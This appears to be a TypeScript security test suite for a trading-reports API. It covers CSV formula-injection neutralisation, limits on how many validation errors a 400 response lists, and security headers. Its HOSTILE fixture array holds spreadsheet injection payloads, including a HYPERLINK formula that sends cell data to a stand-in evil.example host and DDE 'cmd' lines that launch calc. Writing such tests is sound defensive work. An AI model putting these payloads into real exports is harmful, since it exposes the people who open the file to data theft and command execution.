import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runExport } from "../../src/cli/export.js";
import { csvCell, csvCellText } from "../../src/domain/csv-cell.js";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { KEYS, v2Record } from "../helpers/fixture.js";

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ env: { MAX_PROBLEMS_PER_RESPONSE: "7" } });
});
afterAll(async () => t?.close());

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+CMD|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTAB=1+1",
  "\r=1+1",
];

describe("CSV formula injection", () => {
  it("neutralises text cells a spreadsheet would run, in the service and in `trading-reports export`", async () => {
    const records = HOSTILE.map((symbol, i) =>
      v2Record({
        date: `2024-02-${String(i + 1).padStart(2, "0")}`,
        quoteCoinId: undefined,
        quoteCoinSymbol: symbol,
        bidAskSpread: 0,
      }),
    );
    const stored = await t.request({
      method: "POST",
      url: "/api/v2/report",
      key: KEYS.acme,
      payload: { data: records },
    });
    expect(stored.statusCode, stored.body).toBe(201);
    const query = "dateGte=2024-02-01&dateLte=2024-02-29";
    const csv = await t.request({
      method: "GET",
      url: `/api/v1/reports?${query}`,
      key: KEYS.acme,
      headers: { accept: "text/csv" },
    });
    expect(csv.statusCode).toBe(200);
    const check = (text: string) => {
      const rows: Record<string, string>[] = parse(text, { columns: true });
      const symbols = rows.map((r) => r.quoteCoinSymbol).sort();
      // Stored upper-case; written with a leading quote, the value otherwise intact.
      expect(symbols).toEqual(HOSTILE.map((s) => `'${s.toUpperCase()}`).sort());
      for (const row of rows) {
        for (const [column, value] of Object.entries(row))
          expect(/^[=+\-@\t\r]/.test(value), `${column}: ${JSON.stringify(value)}`).toBe(false);
        // Numbers are left alone.
        expect(row.bidAskSpread).toBe("0");
        expect(row.bidDepthTob).toBe("1000");
        expect(row.topOfBookPercentage).toBe("42.5");
      }
    };
    check(csv.body);

    await t.app.listen({ host: "127.0.0.1", port: 0 });
    const address = t.app.server.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const dir = mkdtempSync(join(tmpdir(), "export-injection-"));
    try {
      const out = join(dir, "reports.csv");
      const io = { stdout: new PassThrough(), stderr: new PassThrough(), env: {} };
      const code = await runExport(
        {
          url: `http://127.0.0.1:${port}`,
          key: KEYS.acme,
          out,
          dateGte: "2024-02-01",
          dateLte: "2024-02-29",
        },
        io,
      );
      expect(code).toBe(0);
      check(readFileSync(out, "utf8"));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("writes one documented rule: a quote before formula text, numbers as they are", () => {
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("a=1")).toBe("a=1");
    expect(csvCell("=A1,B1")).toBe(`"'=A1,B1"`);
    expect(csvCell('@x"y')).toBe(`"'@x""y"`);
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
    // Text that already reads as a neutralised cell gets one quote more: the rule is one to one.
    expect(csvCell("'-1")).toBe("''-1");
    expect(csvCell("''=1")).toBe("'" + "''=1");
    expect(csvCell("'abc")).toBe("'abc");
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(1e21)).toBe("1e+21");
    expect(csvCell(0.25)).toBe("0.25");
    expect(csvCell(null)).toBe("");
  });

  it("reads a neutralised cell back as it was: one quote before formula text is dropped, nothing else", () => {
    for (const text of HOSTILE) expect(csvCellText(`'${text}`)).toBe(text);
    expect(csvCellText("'abc")).toBe("'abc");
    expect(csvCellText("''=1")).toBe("'=1");
    expect(csvCellText("'")).toBe("'");
    expect(csvCellText("=1")).toBe("=1");
    expect(csvCellText("a'=1")).toBe("a'=1");
  });

  it("reads every text back exactly as it was written (the rule is one to one)", () => {
    const text = fc.oneof(
      fc.string(),
      fc
        .tuple(
          fc.constantFrom("", "'", "''", "'''"),
          fc.constantFrom("=", "+", "-", "@", "\t", "\r"),
          fc.string(),
        )
        .map(([quotes, start, rest]) => quotes + start + rest),
    );
    fc.assert(
      fc.property(text, (original) => {
        const [row] = parse(csvCell(original), { relax_quotes: false });
        expect(csvCellText(row?.[0] ?? "")).toBe(original);
      }),
    );
  });
});

describe("400 amplification", () => {
  it("lists at most the configured number of problems, then how many more", async () => {
    const body = JSON.stringify({ data: Array.from({ length: 300 }, () => ({})) });
    const response = await t.request({
      method: "POST",
      url: "/api/v2/report",
      key: KEYS.acme,
      headers: { "content-type": "application/json" },
      payload: body,
    });
    expect(response.statusCode).toBe(400);
    const answer = response.json();
    expect(answer.error).toBe("Bad Request");
    expect(answer.message).toHaveLength(8);
    expect(answer.message.slice(0, 7)).toEqual(
      Array.from({ length: 7 }, () => ({
        path: expect.stringMatching(/^data\.0\./),
        message: expect.any(String),
      })),
    );
    const last = answer.message[7];
    expect(last).toEqual({ message: expect.stringMatching(/^… and \d+ more problems$/) });
    expect(Number(/(\d+)/.exec(last.message)?.[1])).toBeGreaterThan(300 * 10);
    expect(response.body.length).toBeLessThan(2_000);
  });

  it("keeps the answer unchanged when there are no more problems than the limit", async () => {
    const response = await t.request({
      method: "POST",
      url: "/api/v2/report",
      key: KEYS.acme,
      payload: { data: [v2Record({ bidDepth50: "1" })] },
    });
    expect(response.json().message).toEqual([
      { path: "data.0.bidDepth50", message: "Expected number, received string" },
    ]);
  });
});

describe("security headers", () => {
  it("sends nosniff on every answer, and no-store on every authenticated one", async () => {
    const answers = {
      health: await t.request({ url: "/healthz" }),
      notFound: await t.request({ url: "/nowhere" }),
      unauthenticated: await t.request({ url: "/api/v1/reports" }),
      json: await t.request({ url: "/api/v1/reports", key: KEYS.acme }),
      csv: await t.request({
        url: "/api/v1/reports",
        key: KEYS.acme,
        headers: { accept: "text/csv" },
      }),
      projects: await t.request({ url: "/api/v1/projects", key: KEYS.acme }),
      badRequest: await t.request({ url: "/api/v1/reports?dateGte=x", key: KEYS.acme }),
      openapi: await t.request({ url: "/openapi.json" }),
    };
    for (const [name, response] of Object.entries(answers))
      expect(response.headers["x-content-type-options"], name).toBe("nosniff");
    for (const name of ["unauthenticated", "json", "csv", "projects", "badRequest"] as const)
      expect(answers[name].headers["cache-control"], name).toBe("no-store");
  });

  it("serves /docs with a CSP that forbids framing", async () => {
    for (const url of [
      "/docs",
      "/docs/",
      "/docs/static/index.html",
      "/docs/static/swagger-initializer.js",
    ]) {
      const response = await t.request({ url });
      expect(response.statusCode, url).toBeLessThan(400);
      const csp = String(response.headers["content-security-policy"]);
      expect(csp, url).toContain("frame-ancestors 'none'");
      expect(csp, url).toContain("script-src 'self'");
      expect(response.headers["x-frame-options"], url).toBe("DENY");
    }
  });
});
